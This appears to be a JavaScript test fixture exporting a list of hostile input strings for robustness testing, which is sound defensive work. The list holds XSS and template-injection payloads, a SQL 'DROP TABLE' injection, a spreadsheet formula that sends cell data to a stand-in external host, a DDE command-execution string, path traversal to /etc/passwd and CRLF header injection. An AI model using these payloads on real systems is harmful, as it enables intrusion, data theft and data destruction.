// Texts that have broken other programs. Those that run anything set window.ran.
const run = "window.ran=1";
const long = "Nguyễn Thị Ánh Nguyệt ";

export const hostile = [
  `<script>${run}</script>`,
  `"><img src=x onerror="${run}">`,
  `'"><svg/onload=${run}>`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> #{${run}}`,
  `</title><script>${run}</script>`,
  `javascript:${run}`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<style>*{display:none}</style>`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `=HYPERLINK("http://elsewhere.example/?"&A1,"click")`,
  "+1-1@SUM(1+1)*cmd|' /C calc'!A0",
  `Robert'); DROP TABLE customers;--`,
  "‮txt.exe‬ right to left עברית العربية",
  "zero​width‌ ‍join﻿er",
  "👩‍👩‍👧‍👦 🇻🇳 family and flag 🏳️‍🌈",
  `Z${"̷̢̡͎͖͓".repeat(20)}algo`,
  `${long.repeat(9)}`.trim(),
  "x".repeat(200),
  "ﷺ﷽".repeat(30),
  "%s %n %x %00 %0d%0aSet-Cookie: a=b",
  "\\u003cscript\\u003e &lt;b&gt; &amp;amp; &#x41;",
  "../../../etc/passwd ..\\..\\ C:\\nul",
  "null undefined NaN [object Object] true 0 -0 1e309",
  "__proto__ constructor toString hasOwnProperty",
];
